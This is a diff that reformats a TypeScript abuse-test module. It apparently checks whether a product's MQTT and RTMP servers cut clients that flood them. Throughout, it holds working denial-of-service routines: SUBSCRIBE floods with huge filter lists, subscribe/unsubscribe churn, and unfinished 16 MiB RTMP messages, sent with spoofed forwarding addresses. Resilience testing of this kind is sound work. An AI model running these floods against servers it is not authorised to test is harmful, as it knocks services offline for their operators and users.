@@ -30,31 +30,47 @@ const secretId = (tag: string) => `abuse_${tag}_${Math.random().toString(16).sli
 const from = (address: string) => ({ 'x-forwarded-for': address });
 
 /** Sends `packets` SUBSCRIBE packets at once on one persistent session, reconnecting (as an attacker would) until the phase ends. */
-async function subscribeFlood(target: Target, until: number, packet: string[], address: string): Promise<AttackOutcome> {
+async function subscribeFlood(
+  target: Target,
+  until: number,
+  packet: string[],
+  address: string,
+): Promise<AttackOutcome> {
   let connections = 0;
   let subacks = 0;
   let cut = 0;
   while (Date.now() < until) {
-    const client = await RawMqttClient.connect(target.mqttUrl, secretId('sub'), { clean: false, headers: from(address) }).catch(() => undefined);
+    const client = await RawMqttClient.connect(target.mqttUrl, secretId('sub'), {
+      clean: false,
+      headers: from(address),
+    }).catch(() => undefined);
     if (client === undefined || client.connackCode !== 0) break;
     connections += 1;
     for (let n = 1; n <= 30; n += 1) client.subscribe(n, packet);
-    await Promise.race([client.untilSubacksOrClosed(30), new Promise((resolve) => setTimeout(resolve, Math.max(0, until - Date.now())))]);
+    await Promise.race([
+      client.untilSubacksOrClosed(30),
+      new Promise((resolve) => setTimeout(resolve, Math.max(0, until - Date.now()))),
+    ]);
     subacks += client.subacks;
     if (client.isClosed) cut += 1;
     client.close();
   }
-  return { cut: connections > 0 && cut === connections, detail: `${connections} connections, ${subacks} SUBACKs for ${connections * 30} packets, ${cut} cut` };
+  return {
+    cut: connections > 0 && cut === connections,
+    detail: `${connections} connections, ${subacks} SUBACKs for ${connections * 30} packets, ${cut} cut`,
+  };
 }
 
 export const ATTACKS: Attack[] = [
   {
     name: 'mqtt: 30 SUBSCRIBE of ~50 KB, persistent',
-    run: (target, until) => subscribeFlood(target, until, filters(target.product, 1000, 48, 'big'), `203.0.${113 + target.round}.10`),
+    run: (target, until) =>
+      subscribeFlood(target, until, filters(target.product, 1000, 48, 'big'), `203.0.${113 + target.round}.10`),
   },
   {
     name: 'mqtt: 30 SUBSCRIBE of 1,000 filters',
-    run: (target, until) => subscribeFlood(target, until, filters(target.product, 1000, 12, 'k'), `203.0.${113 + target.round}.11`),
+    run: (target, until) =>
+      subscribeFlood(target, until, filters(target.product, 1000, 12, 'k'), `203.0.${113 + target.round}.11`),
   },
   {
     name: 'mqtt: subscriptions until cut, 16 a packet',
@@ -64,7 +80,10 @@ export const ATTACKS: Attack[] = [
       let connections = 0;
       const id = secretId('many');
       while (Date.now() < until && connections < 50) {
-        const client = await RawMqttClient.connect(target.mqttUrl, id, { clean: false, headers: from(`203.0.${113 + target.round}.12`) }).catch(() => undefined);
+        const client = await RawMqttClient.connect(target.mqttUrl, id, {
+          clean: false,
+          headers: from(`203.0.${113 + target.round}.12`),
+        }).catch(() => undefined);
         if (client === undefined) break;
         connections += 1;
         const packets = Array.from({ length: 20 }, (_, n) => filters(target.product, 16, 40, `c${connections}p${n}-`));
@@ -72,13 +91,18 @@ export const ATTACKS: Attack[] = [
         if (client.isClosed) cut += 1;
         client.close();
       }
-      return { cut: cut === connections, detail: `${connections} connections on one session, ${held * 16} filters accepted in all, ${cut} cut` };
+      return {
+        cut: cut === connections,
+        detail: `${connections} connections on one session, ${held * 16} filters accepted in all, ${cut} cut`,
+      };
     },
   },
   {
     name: 'mqtt: subscribe/unsubscribe churn',
     async run(target, until) {
-      const client = await RawMqttClient.connect(target.mqttUrl, secretId('churn'), { headers: from(`203.0.${113 + target.round}.13`) });
+      const client = await RawMqttClient.connect(target.mqttUrl, secretId('churn'), {
+        headers: from(`203.0.${113 + target.round}.13`),
+      });
       let sent = 0;
       while (Date.now() < until && !client.isClosed && sent < 100_000) {
         client.subscribe((sent % 60_000) + 1, [`${target.product}/churn/${sent}`]);
@@ -115,7 +139,7 @@ export const ATTACKS: Attack[] = [
     },
   },
   {
-    name: 'rtmp: 20 connections, each an unfinished 16 MiB message (media engineer\'s part)',
+    name: "rtmp: 20 connections, each an unfinished 16 MiB message (media engineer's part)",
     async run(target, until) {
       const sockets: Socket[] = [];
       let bytes = 0;
@@ -132,13 +156,17 @@ export const ATTACKS: Attack[] = [
       const piece = Buffer.concat([Buffer.alloc(128, 0xaf), Buffer.from([0xc3])]);
       const slab = Buffer.concat(Array.from({ length: 2048 }, () => piece));
       while (Date.now() < until && bytes < 20 * 8 * 1024 * 1024) {
-        for (const socket of sockets) if (!socket.destroyed && socket.writableLength < 4 * slab.length) socket.write(slab);
+        for (const socket of sockets)
+          if (!socket.destroyed && socket.writableLength < 4 * slab.length) socket.write(slab);
         bytes += sockets.filter((socket) => !socket.destroyed).length * slab.length;
         await new Promise((resolve) => setTimeout(resolve, 20));
       }
       const open = sockets.filter((socket) => !socket.destroyed).length;
       for (const socket of sockets) socket.destroy();
-      return { cut: open === 0, detail: `${Math.round(bytes / 1024 / 1024)} MiB sent, ${20 - open} of 20 connections closed by the server` };
+      return {
+        cut: open === 0,
+        detail: `${Math.round(bytes / 1024 / 1024)} MiB sent, ${20 - open} of 20 connections closed by the server`,
+      };
     },
   },
 ];
